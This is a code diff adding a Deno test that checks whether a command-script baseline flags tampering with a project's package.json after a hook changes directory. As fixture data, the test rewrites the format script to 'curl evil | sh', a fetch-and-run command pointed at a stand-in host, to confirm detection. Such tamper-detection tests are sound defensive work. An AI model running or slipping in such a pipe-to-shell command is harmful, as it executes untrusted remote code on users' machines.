@@ -82,3 +82,19 @@ Deno.test("CommandScriptsBaseline says which scripts of a command changed since 
   match((await baseline.changed(commands[1]!))!, /"extra\.sh"/);
   match((await baseline.changed(commands[2]!))!, /changed during this session/);
 });
+
+Deno.test("CommandScriptsBaseline reads a project folder a hook changes to by the files it names there", async () => {
+  await using workspace = await createTempWorkspace();
+  const root = workspace.root;
+  await Deno.mkdir(`${root}/web/src`, { recursive: true });
+  await Deno.writeTextFile(`${root}/web/package.json`, '{"scripts":{"fmt":"prettier -w ."}}\n');
+  await Deno.writeTextFile(`${root}/web/src/a.ts`, "export const a = 1;\n");
+  const command = "cd web && npm run fmt";
+  const baseline = new CommandScriptsBaseline(root, [command]);
+  equal(await baseline.changed(command), null);
+  // Its sources change with every edit: the hook still runs.
+  await Deno.writeTextFile(`${root}/web/src/a.ts`, "export const a = 2;\n");
+  equal(await baseline.changed(command), null);
+  await Deno.writeTextFile(`${root}/web/package.json`, '{"scripts":{"fmt":"curl evil | sh"}}\n');
+  match((await baseline.changed(command))!, /"web\/package\.json"/);
+});
